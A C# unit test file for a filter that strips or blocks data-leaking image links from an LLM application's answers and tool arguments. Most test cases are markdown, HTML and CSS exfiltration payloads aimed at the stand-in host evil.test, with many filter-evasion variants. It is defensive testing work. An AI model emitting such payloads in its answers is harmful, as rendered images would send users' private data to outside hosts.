using CleanLlm.Application.Answers;
using CleanLlm.Application.Answers.Links;
using CleanLlm.Application.Answers.Reading;
using CleanLlm.Domain.Completions;
using CleanLlm.Domain.Prompting;
using Microsoft.Extensions.Options;

namespace CleanLlm.Application.UnitTests.Answers;

/// <summary>Addresses in answers that carry data to hosts that are not allowed.</summary>
internal sealed class LinkStepTests
{
    private const string Data = "q=the+customer+is+Ann";

    // The address that is to go stands between braces.
    [TestCase("![chart]({https://evil.test/c.png?" + Data + "})")]
    [TestCase("![chart]( {https://evil.test/c.png?" + Data + "} \"title\")")]
    [TestCase("![chart](\n{https://evil.test/c.png?" + Data + "})")]
    [TestCase("![chart](<{https://evil.test/c d.png?" + Data + "}>)")]
    [TestCase("![a [b] c]({https://evil.test/?" + Data + "})")]
    [TestCase("![a \\[ c]({https://evil.test/?" + Data + "})")]
    [TestCase("![a \\] c]({https://evil.test/?" + Data + "})")]
    [TestCase("[![chart]({https://evil.test/?" + Data + "})](https://evil.test/a)")]
    [TestCase("![]({//evil.test/?" + Data + "})")]
    [TestCase("![]({\\\\evil.test/?" + Data + "})")]
    [TestCase("![]({/\\evil.test/?" + Data + "})")]
    [TestCase("![]({HTTPS:evil.test/?" + Data + "})")]
    [TestCase("![]({https:\\/\\/evil.test\\/?" + Data + "})")]
    [TestCase("![]({https&#58;//evil.test/?" + Data + "})")]
    [TestCase("![]({&#104;ttps&colon;&sol;&sol;evil.test/?" + Data + "})")]
    [TestCase("![]({https://good.test@evil.test/?" + Data + "})")]
    [TestCase("![]({https://good.test\\@evil.test/?" + Data + "})")]
    [TestCase("![]({https://good.test.evil.test/?" + Data + "})")]
    [TestCase("![]({https://g\u043eod.test/?" + Data + "})")]
    [TestCase("![]({https://%65vil.test/?" + Data + "})")]
    [TestCase("![]({https://evil.test/a(b)c?" + Data + "})")]
    [TestCase("![]({https://evil.test/the-customer-is-ann-and-lives-in-bergen-at-the-old-harbour-number-twelve.png})")]
    [TestCase("![]({https://the-customer-is-ann-from-bergen-harbour.evil.test/a.png})")]
    [TestCase("![][1]\n\n[1]: {https://evil.test/?" + Data + "}\nmore")]
    [TestCase("[1]:\n<{https://evil.test/?" + Data + "}>")]
    [TestCase("<img src=\"{https://evil.test/?" + Data + "}\">")]
    [TestCase("<IMG alt=\">\" width=1 SRC='{https://evil.test/?" + Data + "}'/>")]
    [TestCase("<img/src={https://evil.test/?" + Data + "}>")]
    [TestCase("<img\nsrcset=\"{https://evil.test/1?" + Data + "} 1x, {//evil.test/2?" + Data + "} 2x\">")]
    [TestCase("<div style=\"background: url({https://evil.test/?" + Data + "})\">text</div>")]
    [TestCase("<a style='background:url({https://evil.test/?" + Data + "})' href=/a>text</a>")]
    [TestCase("<video poster='{https://evil.test/?" + Data + "}'></video>")]
    [TestCase("<style>p { background: url({https://evil.test/?" + Data + "}) }</style>")]
    [TestCase("<meta http-equiv=refresh content='0;url={https://evil.test/?" + Data + "}'>")]
    public void AnImage_ThatCarriesDataOut_GoesNowhere_HoweverTheAnswerIsSplit(string marked)
    {
        var answer = "Here: " + marked.Replace("{", "", StringComparison.Ordinal).Replace("}", "", StringComparison.Ordinal) + " done";
        if (marked.Contains("p {", StringComparison.Ordinal))
            answer = "Here: " + marked.Replace("({", "(", StringComparison.Ordinal).Replace("})", ")", StringComparison.Ordinal) + " done";

        var shown = Answered.HoweverSplit(Step(), StepMode.Redact, answer);

        shown.Text.Should().NotContain(Data).And.NotContain("evil.test/?").And.Contain(LinkFilter.Nowhere).And.StartWith("Here: ").And.EndWith(" done");
        shown.Codes.Should().Equal("image");
    }

    [TestCase("![chart](https://good.test/c.png?" + Data + ")")]
    [TestCase("![chart](https://GOOD.test.:443/c.png?" + Data + ")")]
    [TestCase("![chart](https://cdn.good.example/c.png?" + Data + ")")]
    [TestCase("![chart](https://other.test/c.png)")]
    [TestCase("![chart](/files/c.png?" + Data + ")")]
    [TestCase("![chart](data:image/png;base64,iVBORw0KGgo=)")]
    [TestCase("[text](https://evil.test/?" + Data + ") https://evil.test/?" + Data + " <https://evil.test/?" + Data + ">")]
    [TestCase("<a href='https://evil.test/?" + Data + "'>text</a>")]
    [TestCase("if (a <b && c[1]) { x = y[2]; } // a: b, List<int> and vector<T>; <b>bold</b> <br/> a[i](j)")]
    [TestCase("At 10:30 it is 5:4; see C:\\temp\\[a] and the rest [1], h, ht, http, https")]
    public void OtherAddresses_Stay(string answer)
    {
        var shown = Answered.HoweverSplit(Step(), StepMode.Redact, answer);

        shown.Text.Should().Be(answer);
        shown.Findings.Should().BeEmpty();
    }

    [TestCase("[text](https://evil.test/a) and https://evil.test/a, <https://evil.test/a>.", "[text](about:blank) and about:blank <about:blank>.")]
    [TestCase("<a href=\"https://evil.test/a\">text</a>", "<a href=\"about:blank\">text</a>")]
    [TestCase("[text](https://good.test/a) ftp://evil.test/a", "[text](https://good.test/a) about:blank")]
    [TestCase("![chart](https://evil.test/a.png)", "![chart](about:blank)")]
    public void WithAllOfThem_LinksGoToo_AndTheirTextStays(string answer, string shown) =>
        Answered.HoweverSplit(Step(LinkScope.All, LinkScope.All), StepMode.Redact, answer).Text.Should().Be(shown);

    [Test]
    public void WhenItOnlyTells_TheAnswerIsAsItWas()
    {
        const string Answer = "![a](https://evil.test/?1) ![b](https://evil.test/?2)";

        var told = Answered.HoweverSplit(Step(), StepMode.Flag, Answer);

        told.Text.Should().Be(Answer);
        told.Findings.Should().Equal(new Finding("links", "image", 2) { Action = StepMode.Flag });
        (LinkStep.Setting.Default, new LinkOptions().Images, new LinkOptions().Links).Should().Be((StepMode.Flag, LinkScope.Data, LinkScope.None));
    }

    [Test]
    public void AnImage_StopsTheAnswer_BeforeItIsFetched()
    {
        const string Answer = "Here: ![chart](https://evil.test/c.png?" + Data + ") done";

        Answered.HoweverSplit(Step(), StepMode.Block, Answer).IsBlocked.Should().BeTrue();
        Answered.Of(Step(), StepMode.Block, [], AnswerStrand.Text, Answer.Select(c => c.ToString())).Text.Should().Be("Here: ![chart");
    }

    [Test]
    public void InArgumentsOfTools_ImagesAreSeenThroughTheEscapes()
    {
        var arguments = System.Text.Json.JsonSerializer.Serialize(new { body = "<img src=\"https://evil.test/?" + Data + "\"> ![a](https://evil.test/?" + Data + ")", n = 1 });

        var shown = Answered.Of(Step(), StepMode.Redact, [], AnswerStrand.ToolArguments, arguments.Select(c => c.ToString())).Text;

        shown.Should().NotContain(Data);
        System.Text.Json.JsonElement.Parse(shown).GetProperty("n").GetInt32().Should().Be(1);
    }

    [TestCase("![a](https://evil.test/?", "")]
    [TestCase("https://evil.test/?", "")]
    [TestCase("<img src=https://evil.test/?", ">")]
    [TestCase("<b ", "")]
    public void WhatIsHeldBack_HasABound_AndALongAddressIsGoneToItsEnd(string beginning, string end)
    {
        var answer = beginning + new string('d', 4000) + end + " end";

        var shown = Answered.Of(Step(LinkScope.All, LinkScope.All), StepMode.Redact, [], AnswerStrand.Text, answer.Select(c => c.ToString()));

        shown.MostHeld.Should().BeLessThanOrEqualTo(ScreeningFilter.Most);
        shown.Text.Should().EndWith(end + " end");
        if (beginning.Contains("evil", StringComparison.Ordinal))
            shown.Text.Length.Should().BeLessThan(100);
    }

    [TestCase("example.com", true)]
    [TestCase("*.example.com", true)]
    [TestCase("localhost", true)]
    [TestCase("https://example.com", false)]
    [TestCase("example.com/a", false)]
    [TestCase("example.com:443", false)]
    [TestCase("*", false)]
    [TestCase("*.", false)]
    [TestCase("ex*ample.com", false)]
    [TestCase("", false)]
    public void Options_TakeNamesOfHosts(string host, bool isValid) =>
        new LinkOptions { AllowedHosts = [host] }.Validate(new(new object())).Should().HaveCount(isValid ? 0 : 1);

    private static LinkStep Step(LinkScope images = LinkScope.Data, LinkScope links = LinkScope.None) =>
        new(Options.Create(new LinkOptions { Images = images, Links = links, AllowedHosts = ["good.test", "*.good.example"] }));
}
